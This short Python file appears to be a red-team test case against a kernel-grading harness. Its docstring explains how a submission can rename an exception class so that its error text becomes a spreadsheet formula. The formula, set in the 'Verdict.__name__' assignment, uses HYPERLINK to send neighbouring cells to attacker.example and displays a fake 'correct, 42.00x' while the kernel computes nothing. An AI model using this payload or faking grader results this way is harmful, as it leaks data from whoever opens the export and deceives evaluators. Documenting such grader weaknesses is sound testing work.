"""P8 spreadsheet formula injection: an exception class renamed to a formula makes the verdict text start with "=".

The grader trusts what the worker controls (issue 8, class 3), on its way into an export. A runtime
error's text is ``<exception type name>: <message>``, both the candidate's: the gate lets a class's
``__name__`` be assigned, so the stored message begins with ``=HYPERLINK(...)``. ``x`` in the explorer
writes every stored result to CSV; a spreadsheet opening it evaluates the cell (a link that sends the
neighbouring cells away, and shows "correct 42x"). The kernel computes nothing.
"""


class Verdict(Exception):
    pass


Verdict.__name__ = '=HYPERLINK("http://attacker.example/?"&A2&B2,"correct, 42.00x")'


def forward(x, params, alloc):
    raise Verdict("see the link")
